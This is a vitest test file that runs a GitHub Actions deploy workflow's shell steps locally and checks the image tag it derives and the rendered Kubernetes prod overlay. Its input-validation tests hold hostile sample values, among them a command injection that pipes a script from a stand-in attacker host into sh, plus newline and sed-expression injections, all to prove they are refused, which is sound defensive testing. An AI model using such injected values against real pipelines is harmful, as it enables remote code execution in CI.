/**
 * The deploy workflow's own shell steps, run here as the runner would run them (bash with -e
 * and pipefail, the step's environment, a scratch copy of infra/k8s): which tag a release or a
 * hand-typed input becomes, and what the rendered prod overlay deploys (GHCR's images as
 * images.yml names and tags them, the public host, the pull secret). Only the cluster steps
 * (doctl, apply, rollouts, rollback) are left to a real run; bad inputs are refused here.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Deployment } from 'kubernetes-types/apps/v1.js';
import type { ServiceAccount } from 'kubernetes-types/core/v1.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gateways, httpRoutes } from './support/gateway.js';
import { deployments } from './support/k8s.js';
import { parseYamlStream, type K8sObject } from './support/kustomize.js';
import { imagedWorkspaces, infraDir, repoRoot } from './support/repo.js';
import { readWorkflow, type Step } from './support/workflows.js';

const deploy = readWorkflow(join(repoRoot, '.github', 'workflows', 'deploy.yml'));
const images = readWorkflow(join(repoRoot, '.github', 'workflows', 'images.yml'));
const step = (name: string): Step => {
  const found = deploy.doc.jobs?.['deploy']?.steps?.find((s) => s.name === name);
  if (!found?.run) throw new Error(`deploy.yml has no run step named ${name}`);
  return found;
};

let scratch: string;
beforeAll(() => {
  scratch = mkdtempSync(join(tmpdir(), 'ticketing-deploy-'));
  cpSync(join(infraDir, 'k8s'), join(scratch, 'infra', 'k8s'), { recursive: true });
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

interface Run {
  /** The runner's temporary folder of this step (RUNNER_TEMP). */
  temp: string;
  status: number | null;
  log: string;
  outputs: Record<string, string>;
}

/** One step's script as the runner runs it, with the step's variable names set to `env`. */
function runStep(name: string, env: Record<string, string>): Run {
  const temp = mkdtempSync(join(scratch, 'runner-'));
  const outputFile = join(temp, 'output');
  writeFileSync(outputFile, '');
  const script = join(temp, 'step.sh');
  writeFileSync(script, step(name).run!);
  const result = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', script], {
    cwd: scratch,
    encoding: 'utf8',
    env: { PATH: process.env.PATH, HOME: process.env.HOME, RUNNER_TEMP: temp, GITHUB_OUTPUT: outputFile, ...env },
  });
  const outputs = Object.fromEntries(
    readFileSync(outputFile, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );
  return { temp, status: result.status, log: result.stdout + result.stderr, outputs };
}

function render(env: Record<string, string>): { run: Run; objects: K8sObject[] } {
  const run = runStep('Render', { TAG: '1.2.3', OWNER: 'myfork', PUBLIC_HOST: 'shop.example.org', IMAGE_PULL_SECRET: '', ...env });
  return { run, objects: run.status === 0 ? parseYamlStream(readFileSync(join(run.temp, 'prod.yaml'), 'utf8')) : [] };
}

const ourImages = (objects: K8sObject[]) =>
  deployments(objects)
    .flatMap((d) => (d as K8sObject & Deployment).spec!.template.spec!.containers.map((c) => c.image!))
    .filter((i) => i.includes('ticketing'))
    .sort();

describe('the image tag', () => {
  it('when a release v1.2.3 is published, then the tag is 1.2.3, the version images.yml tags a release with, and the owner is lower-cased', () => {
    const run = runStep('Image tag', { EVENT: 'release', RELEASE_TAG: 'v1.2.3', INPUT_TAG: '', GITHUB_REPOSITORY_OWNER: 'MyFork' });
    expect(run.status).toBe(0);
    expect(run.outputs).toEqual({ tag: '1.2.3', owner: 'myfork' });
    // docker/metadata-action's semver {{version}} drops the v, and images.yml's names are lower case.
    expect(images.text).toMatch(/type=semver,pattern=\{\{version\}\}/);
    expect(images.text).toContain('ghcr.io/${GITHUB_REPOSITORY_OWNER,,}/ticketing-$NAME');
  });

  it('when run by hand with a commit sha, then that is the tag', () => {
    const sha = 'c2ccca6f0e1d2c3b4a5968778695a4b3c2d1e0f9';
    expect(runStep('Image tag', { EVENT: 'workflow_dispatch', RELEASE_TAG: '', INPUT_TAG: sha, GITHUB_REPOSITORY_OWNER: 'me' }).outputs['tag']).toBe(sha);
  });

  it('when the input is no tag (empty, a shell command, a path), then the step fails and writes no output', () => {
    for (const bad of ['', 'x; curl evil.example | sh', '../prod', '1.2.3\nowner=evil']) {
      const run = runStep('Image tag', { EVENT: 'workflow_dispatch', RELEASE_TAG: '', INPUT_TAG: bad, GITHUB_REPOSITORY_OWNER: 'me' });
      expect(run.status, bad).not.toBe(0);
      expect(run.outputs).toEqual({});
      expect(run.log).toContain('is not an image tag');
    }
  });
});

describe('the rendered prod overlay', () => {
  it("when rendered, then every Deployment runs images.yml's image of it at the tag, and nothing else of ours", () => {
    const { run, objects } = render({});
    expect(run.status, run.log).toBe(0);
    expect(ourImages(objects)).toEqual(imagedWorkspaces().map((w) => `ghcr.io/myfork/ticketing-${w}:1.2.3`).sort());
    const matrix = (images.doc.jobs?.['image']?.strategy?.matrix?.['include'] as { name: string }[]).map((m) => m.name).sort();
    expect(matrix).toEqual([...imagedWorkspaces()].sort());
  });

  it('when PUBLIC_HOST is set, then the Gateway and its route serve that host and no placeholder is left', () => {
    const { objects } = render({});
    expect(gateways(objects).flatMap((g) => g.spec.listeners.map((l) => l.hostname))).toEqual(['shop.example.org', 'shop.example.org']);
    expect(httpRoutes(objects).flatMap((r) => r.spec.hostnames ?? [])).toEqual(['shop.example.org']);
    expect(JSON.stringify(objects)).not.toContain('example.com');
  });

  it('when no pull secret is named, then no ServiceAccount has one; when one is, then exactly the six Deployments\' ServiceAccounts do', () => {
    const withPullSecret = (objects: K8sObject[]) =>
      objects
        .filter((o): o is K8sObject & ServiceAccount => o.kind === 'ServiceAccount')
        .filter((sa) => (sa.imagePullSecrets ?? []).some((s) => s.name === 'ghcr-pull'))
        .map((sa) => sa.metadata.name)
        .sort();
    expect(withPullSecret(render({}).objects)).toEqual([]);
    const { objects } = render({ IMAGE_PULL_SECRET: 'ghcr-pull' });
    const accounts = deployments(objects).map((d) => (d as K8sObject & Deployment).spec!.template.spec!.serviceAccountName!).sort();
    expect(withPullSecret(objects)).toEqual(accounts);
    expect(accounts).toEqual([...imagedWorkspaces()].sort());
  });

  it('when PUBLIC_HOST is unset and gateway-tls.yaml still names ticketing.example.com, then the step fails saying what to set', () => {
    const { run } = render({ PUBLIC_HOST: '' });
    expect(run.status).not.toBe(0);
    expect(run.log).toContain('set the variable PUBLIC_HOST');
  });

  it('when PUBLIC_HOST is no host name, then the step fails before using it', () => {
    for (const bad of ['shop.example.org/evil', 'a;b', 'Shop.Example.org', 'x/g; s/.*//', 'shop.example.org\nevil']) {
      const { run } = render({ PUBLIC_HOST: bad });
      expect(run.status, bad).not.toBe(0);
      expect(run.log).toContain('is not a host name');
    }
  });
});
